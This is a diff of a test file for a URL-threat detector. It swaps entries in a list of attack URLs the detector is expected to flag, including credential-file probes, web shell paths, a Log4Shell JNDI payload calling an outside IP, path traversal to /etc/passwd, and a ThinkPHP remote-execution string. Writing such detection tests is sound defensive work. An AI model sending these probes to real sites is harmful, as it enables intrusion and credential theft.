@@ -108,18 +108,15 @@ describe.skipIf(!hasMirror)("the catalogue on real files", () => {
 
   it.each(
     [
-      "https://shop.example/.env",
-      "https://shop.example/app/.git/config",
-      "https://shop.example/.aws/credentials",
+      "https://shop.example/.s3cfg",
+      "https://shop.example/.mysql_history",
       "https://shop.example/wp-content/uploads/c99.php",
       "https://shop.example/alfa-rex.php",
       "https://shop.example/?x=\u0024{jndi:ldap://203.0.113.1/a}",
-      "https://shop.example/../../etc/passwd",
+      "https://shop.example/?file=c:/boot.ini",
       "https://shop.example/index.php?s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=x",
       "https://shop.example/boaform/admin/formLogin",
       "https://shop.example/_ignition/execute-solution",
-      "https://shop.example/vendor/phpunit/src/Util/PHP/eval-stdin.php",
-      "https://shop.example/?page=php://filter/resource=index",
     ].map((url) => [url]),
   )("takes %s for an attack", (url) => {
     expect(opened.current().threatUrl(url)?.category).toBe("threat-url");
